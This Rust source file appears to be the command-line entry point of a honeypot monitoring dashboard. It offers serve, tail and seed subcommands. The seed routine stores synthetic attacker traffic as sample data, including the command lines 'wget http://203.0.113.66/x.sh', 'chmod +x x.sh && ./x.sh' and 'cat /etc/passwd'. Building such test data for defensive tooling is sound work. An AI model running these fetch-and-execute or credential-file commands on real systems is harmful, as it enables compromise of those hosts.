use std::path::PathBuf;
use std::sync::Arc;

use anyhow::Context;
use chrono::Utc;
use clap::{Args, Parser, Subcommand, ValueEnum};
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serde::Serialize;
use tokio::sync::mpsc;
use tracing::{info, warn};

use lockbete_config::LockbeteConfig;
use lockbete_core::events::CommandEvent;
use lockbete_geo::GeoResolver;
use lockbete_server::AppState;
use lockbete_store::{EventStore, NewAuthAttempt, NewCommand, SqliteStore};
use lockbete_tailer::{
    batch_channel, AuthTailer, CommandTailer, ModeArbiter, ReplayTailer, StreamMode, StreamSession,
};
use lockbete_telemetry::MetricsRecorder;

#[derive(Parser)]
#[command(version, about)]
pub struct Cli {
    #[command(subcommand)]
    pub command: Commands,
}

#[derive(Subcommand)]
pub enum Commands {
    /// Run the dashboard API server
    Serve(ServeArgs),
    /// Follow an event stream in the terminal, with live/replay arbitration
    Tail(TailArgs),
    /// Insert synthetic honeypot traffic into the store
    Seed(SeedArgs),
}

#[derive(Args, Debug, Clone)]
pub struct ServeArgs {
    /// Configuration file; defaults plus environment are used when absent.
    #[arg(short, long)]
    pub config: Option<PathBuf>,
    /// Override the configured bind address.
    #[arg(short, long)]
    pub bind: Option<String>,
}

#[derive(Args, Debug, Clone)]
pub struct TailArgs {
    #[arg(short, long)]
    pub config: Option<PathBuf>,
    /// Which stream to follow.
    #[arg(long, value_enum, default_value_t = TailStream::Commands)]
    pub stream: TailStream,
}

#[derive(ValueEnum, Debug, Clone, Copy, PartialEq, Eq)]
pub enum TailStream {
    Commands,
    Auth,
}

#[derive(Args, Debug, Clone)]
pub struct SeedArgs {
    #[arg(short, long)]
    pub config: Option<PathBuf>,
    /// Number of command/auth event pairs to insert.
    #[arg(long, default_value_t = 200)]
    pub events: usize,
    /// Seed for reproducible traffic.
    #[arg(long, default_value_t = 0)]
    pub seed: u64,
}

fn load_config(path: &Option<PathBuf>) -> anyhow::Result<LockbeteConfig> {
    let config = match path {
        Some(path) => LockbeteConfig::load_from_path(path)?,
        None => LockbeteConfig::load()?,
    };
    Ok(config)
}

fn open_store(config: &LockbeteConfig) -> anyhow::Result<Arc<dyn EventStore>> {
    let store = SqliteStore::open(&config.store.path)
        .with_context(|| format!("opening event store at {}", config.store.path.display()))?;
    Ok(Arc::new(store))
}

/// Builds the resolver from configuration. A missing or unreadable geo
/// database degrades to unannotated streams rather than refusing to start.
fn open_resolver(config: &LockbeteConfig) -> Arc<GeoResolver> {
    if !config.geo.enabled {
        return Arc::new(GeoResolver::disabled());
    }
    match GeoResolver::open(&config.geo.database) {
        Ok(resolver) => Arc::new(resolver),
        Err(err) => {
            warn!(
                path = %config.geo.database.display(),
                error = %err,
                "geo database unavailable, streams will not be annotated"
            );
            Arc::new(GeoResolver::disabled())
        }
    }
}

pub async fn run_serve(args: ServeArgs) -> anyhow::Result<()> {
    let mut config = load_config(&args.config)?;
    if let Some(bind) = args.bind {
        config.server.bind = bind;
    }

    let store = open_store(&config)?;
    let geo = open_resolver(&config);
    let bind = config.server.bind.clone();
    let state = AppState::new(store, geo, config, MetricsRecorder::new());

    lockbete_server::serve(state, &bind)
        .await
        .context("API server failed")
}

pub async fn run_seed(args: SeedArgs) -> anyhow::Result<()> {
    const IPS: &[&str] = &[
        "45.132.18.9",
        "103.77.4.21",
        "185.220.100.7",
        "203.0.113.66",
        "192.168.137.40",
    ];
    const USERS: &[&str] = &["root", "admin", "pi", "ubuntu", "oracle"];
    const PASSWORDS: &[&str] = &["123456", "admin", "raspberry", "password", "qwerty"];
    const COMMANDS: &[&str] = &[
        "uname -a",
        "cat /proc/cpuinfo",
        "wget http://203.0.113.66/x.sh",
        "chmod +x x.sh && ./x.sh",
        "cat /etc/passwd",
        "history -c",
    ];

    let config = load_config(&args.config)?;
    let store = open_store(&config)?;
    let mut rng = StdRng::seed_from_u64(args.seed);
    let now = Utc::now();

    for _ in 0..args.events {
        let offset = chrono::Duration::seconds(rng.random_range(0..3600));
        let ts = now - offset;
        let ip = IPS[rng.random_range(0..IPS.len())];
        let session_id = format!("s-{:04x}", rng.random_range(0..0x1000u32));

        store
            .insert_auth_attempt(NewAuthAttempt {
                src_ip: ip.into(),
                username: USERS[rng.random_range(0..USERS.len())].into(),
                password: PASSWORDS[rng.random_range(0..PASSWORDS.len())].into(),
                success: rng.random_bool(0.1),
                ts,
            })
            .await?;
        store
            .insert_command(NewCommand {
                session_id,
                ts,
                src_ip: ip.into(),
                command: COMMANDS[rng.random_range(0..COMMANDS.len())].into(),
                failed: if rng.random_bool(0.5) {
                    Some(rng.random_bool(0.3))
                } else {
                    None
                },
            })
            .await?;
    }

    info!(events = args.events, path = %config.store.path.display(), "seeded demo traffic");
    Ok(())
}

pub async fn run_tail(args: TailArgs) -> anyhow::Result<()> {
    let config = load_config(&args.config)?;
    let store = open_store(&config)?;
    let metrics = MetricsRecorder::new();

    match args.stream {
        TailStream::Auth => tail_auth(store, &config, metrics).await,
        TailStream::Commands => tail_commands(store, &config, metrics).await,
    }
}

async fn tail_auth(
    store: Arc<dyn EventStore>,
    config: &LockbeteConfig,
    metrics: MetricsRecorder,
) -> anyhow::Result<()> {
    let session = StreamSession::new();
    let (emitter, mut rx) = batch_channel(&session, metrics.clone(), 16);
    let tailer = AuthTailer::new(store, config.tailer.poll_interval(), metrics);
    tokio::spawn(tailer.run(session.clone(), emitter));

    while let Some(batch) = rx.recv().await {
        print_batch("live", &batch)?;
    }
    session.close();
    Ok(())
}

/// Follows the live command stream; degrades to replay on silence and
/// promotes back the moment live traffic resumes.
async fn tail_commands(
    store: Arc<dyn EventStore>,
    config: &LockbeteConfig,
    metrics: MetricsRecorder,
) -> anyhow::Result<()> {
    let geo = open_resolver(config);
    let arbiter = Arc::new(ModeArbiter::new(
        config.server.liveness_timeout(),
        config.server.mode_check_interval(),
    ));
    let mut mode_rx = arbiter.subscribe();

    let live_session = StreamSession::new();
    let (live_emitter, mut live_rx) = batch_channel(&live_session, metrics.clone(), 16);
    tokio::spawn(
        CommandTailer::new(
            store.clone(),
            geo,
            config.tailer.poll_interval(),
            config.tailer.initial_batch,
            metrics.clone(),
        )
        .run(live_session.clone(), live_emitter),
    );

    let probe = arbiter.clone();
    let probe_session = live_session.clone();
    tokio::spawn(async move { probe.run(probe_session).await });

    let mut replay: Option<(StreamSession, mpsc::Receiver<Vec<CommandEvent>>)> = None;

    loop {
        tokio::select! {
            live = live_rx.recv() => {
                let Some(batch) = live else { break };
                arbiter.note_live_batch();
                if let Some((session, _)) = replay.take() {
                    session.close();
                }
                print_batch("live", &batch)?;
            }
            changed = mode_rx.changed() => {
                if changed.is_err() {
                    break;
                }
                let mode = *mode_rx.borrow_and_update();
                if mode == StreamMode::Replay && replay.is_none() {
                    info!("live stream silent, switching to replay");
                    let session = StreamSession::new();
                    let (emitter, rx) = batch_channel(&session, metrics.clone(), 16);
                    tokio::spawn(
                        ReplayTailer::new(
                            store.clone(),
                            config.tailer.replay.window_secs,
                            config.tailer.replay.interval(),
                            metrics.clone(),
                        )
                        .run(session.clone(), emitter),
                    );
                    replay = Some((session, rx));
                }
            }
            batch = recv_replay(&mut replay) => {
                match batch {
                    Some(batch) => print_batch("replay", &batch)?,
                    None => {
                        // Replay source dried up (empty store or failure).
                        replay = None;
                    }
                }
            }
        }
    }

    live_session.close();
    if let Some((session, _)) = replay {
        session.close();
    }
    Ok(())
}

async fn recv_replay(
    replay: &mut Option<(StreamSession, mpsc::Receiver<Vec<CommandEvent>>)>,
) -> Option<Vec<CommandEvent>> {
    match replay {
        Some((_, rx)) => rx.recv().await,
        None => std::future::pending().await,
    }
}

fn print_batch<T: Serialize>(feed: &str, batch: &[T]) -> anyhow::Result<()> {
    for row in batch {
        println!("[{feed}] {}", serde_json::to_string(row)?);
    }
    Ok(())
}
